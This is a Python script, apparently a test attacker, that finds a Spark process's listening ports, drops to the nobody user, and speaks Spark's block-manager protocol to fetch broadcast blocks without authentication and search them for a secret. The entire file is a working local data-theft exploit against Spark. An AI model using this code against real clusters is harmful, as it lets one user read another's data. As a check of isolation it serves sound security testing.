"""Another user of the machine, who speaks the protocol of Spark's block managers to the ports of a process.

    attacker.py PROCESS SECRET

It gives up its rights, asks each port for the blocks of the first broadcasts, and looks for the secret in them. The last
line says `read PORT BLOCK` or `refused`, and the number of ports that answered.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
from collections.abc import Iterator

NOBODY = 65534
CHUNK_FETCH_REQUEST, CHUNK_FETCH_SUCCESS, RPC_REQUEST, RPC_RESPONSE = 0, 1, 3, 4
OPEN_BLOCKS = 0
BROADCASTS = 200


def ports_of(process: int) -> list[int]:
    """The ports on which a process listens."""
    sockets = set()
    for descriptor in os.listdir(f"/proc/{process}/fd"):
        with contextlib.suppress(OSError):
            sockets.add(os.readlink(f"/proc/{process}/fd/{descriptor}"))
    found = set()
    for table in ("tcp", "tcp6"):
        with open(f"/proc/net/{table}") as lines:
            for line in list(lines)[1:]:
                fields = line.split()
                if fields[3] == "0A" and f"socket:[{fields[9]}]" in sockets:
                    found.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(found)


class Peer:
    """A connection that sends and receives messages of Spark's network protocol."""

    def __init__(self, port: int) -> None:
        self._socket = socket.socket()
        self._socket.settimeout(3)
        self._socket.connect(("127.0.0.1", port))  # no look-up of a name: its module may be unreadable to this user

    def close(self) -> None:
        self._socket.close()

    def send(self, kind: int, content: bytes) -> None:
        self._socket.sendall(struct.pack(">qb", 9 + len(content), kind) + content)

    def receive(self) -> tuple[int, bytes]:
        length, kind = struct.unpack(">qb", self._exactly(9))
        return kind, self._exactly(min(length, 1 << 26) - 9)

    def _exactly(self, count: int) -> bytes:
        received = b""
        while len(received) < count:
            part = self._socket.recv(count - len(received))
            if not part:
                raise ConnectionError("closed")
            received += part
        return received

    def block(self, name: str) -> bytes | None:
        """A block of the block manager; None if it does not give it."""
        strings = [_string("any"), _string("any"), struct.pack(">i", 1), _string(name)]
        request = struct.pack(">b", OPEN_BLOCKS) + b"".join(strings)
        self.send(RPC_REQUEST, struct.pack(">qi", 1, len(request)) + request)
        kind, answer = self.receive()
        if kind != RPC_RESPONSE:
            return None
        stream = struct.unpack(">q", answer[13:21])[0]  # behind request, length and type
        self.send(CHUNK_FETCH_REQUEST, struct.pack(">qi", stream, 0))
        kind, answer = self.receive()
        return answer[12:] if kind == CHUNK_FETCH_SUCCESS else None


def _string(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


def blocks(port: int) -> Iterator[tuple[str, bytes]]:
    """The blocks of broadcasts that a port gives away."""
    for number in range(BROADCASTS):
        name = f"broadcast_{number}_piece0"
        try:
            peer = Peer(port)
        except OSError:
            return
        try:
            content = peer.block(name)
        except (OSError, struct.error):
            if number > 2:
                return  # no block manager
            continue
        finally:
            peer.close()
        if content is not None:
            yield name, content


def main(process: int, secret: str) -> None:
    ports = ports_of(process)
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    for port in ports:
        for name, content in blocks(port):
            if secret.encode() in content:
                print(f"read {port} {name}")
                return
    print(f"refused by {len(ports)} ports")


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
